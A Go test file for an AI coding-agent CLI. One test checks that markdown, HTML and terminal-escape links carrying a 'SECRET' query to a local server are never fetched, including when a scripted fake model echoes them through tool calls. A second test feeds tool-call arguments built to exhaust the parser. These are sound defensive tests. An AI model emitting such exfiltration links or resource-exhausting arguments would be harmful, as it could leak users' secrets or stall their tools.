//go:build unix

package cli

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"pawl/llm/llmtest/fake"
	"pawl/llm/script"
	"pawl/run"
)

// sec083: an address in an answer, in a result or in a file is text. Nothing in pawl
// fetches it by itself: not the run, not what shows the run afterwards.
func TestPicturesAndLinksInTextAreNeverFetched(t *testing.T) {
	t.Parallel()
	s := besiege(t)
	evil := s.server.URL + "/?d=SECRET"
	text := strings.ReplaceAll(`![x](URL) [y](URL) <img src="URL"> <link rel="prefetch" href="URL"> <script src=URL></script> <URL> URL
[ref]: URL "z"
![ref]
@URL #include "URL" file://`+s.out+`/secret`, "URL", evil) + "\n\x1b]8;;" + evil + "\x1b\\z\x1b]8;;\x1b\\\n"
	for _, name := range []string{"ws/notes.md", "ws/notes.html", "ws/AGENTS.md"} {
		s.write(t, name, text)
	}
	reply := func(n int, tool string, args map[string]any) script.Reply {
		b, err := json.Marshal(args)
		if err != nil {
			t.Fatal(err)
		}
		return script.Reply{Text: text, Thinking: text, Calls: []script.Call{{ID: fmt.Sprint("k", n), Tool: tool, Args: b}}}
	}
	s.model = fake.New(script.Script{
		reply(1, "read", map[string]any{"path": "notes.md"}),
		reply(2, "read", map[string]any{"path": "notes.html"}),
		reply(3, "search", map[string]any{"pattern": "SECRET"}),
		reply(4, "shell", map[string]any{"command": "cat notes.md"}),
		{Text: text},
	}, true)
	address, stop, err := s.model.Listen()
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	code, stdout, stderr := s.pawl(t, "ANTHROPIC_BASE_URL="+address, "run", "-p", "look: "+text, "--control", "native")
	if code != 0 || !strings.Contains(stdout, evil) || strings.Contains(stdout, "\x1b") {
		t.Errorf("sec083: exit code %d, the answer is %q\n%s", code, stdout, tail(stderr))
	}
	for _, args := range [][]string{{"runs"}, {"runs", "show", "last"}, {"runs", "log", "last"}, {"runs", "export", "last"}, {"outputs"}, {"stats"}} {
		if code, stdout, stderr := s.pawl(t, "", args...); code != 0 || stdout == "" {
			t.Errorf("sec083: pawl %v: exit code %d, %q, %s", args, code, stdout, stderr)
		}
	}
	if n := s.reached.Load(); n > 0 {
		t.Errorf("sec083: the address was fetched %d times", n)
	}
}

// sec092: what a model sends as arguments to exhaust its reader is an error that it is
// told of, in the log and out again, and the run continues.
func TestArgumentsMadeToExhaustTheReaderDoNotEndARun(t *testing.T) {
	t.Parallel()
	s := besiege(t)
	var replies script.Script
	hostile := []string{
		strings.Repeat("[", 100_000),
		`{"path":` + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + `}`,
		`{"path":"README.md","limit":` + strings.Repeat("9", 300_000) + `,"offset":1e999999999}`,
		`{"` + strings.Repeat("k", 1<<20) + `":1}`,
	}
	for i, args := range hostile {
		replies = append(replies, script.Reply{Calls: []script.Call{{ID: fmt.Sprint("k", i), Tool: "read", RawArgs: &args}}})
	}
	replies = append(replies, script.Reply{Text: "All done."})
	s.model = fake.New(replies, true)
	address, stop, err := s.model.Listen()
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	code, stdout, stderr := s.pawl(t, "ANTHROPIC_BASE_URL="+address, "run", "-p", "look", "--control", "native")
	if code != 0 || !strings.Contains(stdout, "All done.") {
		t.Fatalf("sec092: exit code %d, the answer is %q\n%s", code, stdout, tail(stderr))
	}
	problems := 0
	for _, e := range s.events(t) {
		switch f := e.Payload.(type) {
		case run.CallInspected:
			if f.Problem != "" && len(f.Problem) < 4_000 {
				problems++
			}
		case run.CallSettled:
			if !f.IsError || len(run.PlainText(f.Content)) > 4_000 {
				t.Errorf("sec092: %s: error %v, %.300q", f.Call, f.IsError, run.PlainText(f.Content))
			}
		}
	}
	if problems != len(hostile) {
		t.Errorf("sec092: %d of %d calls have a problem in the log", problems, len(hostile))
	}
}
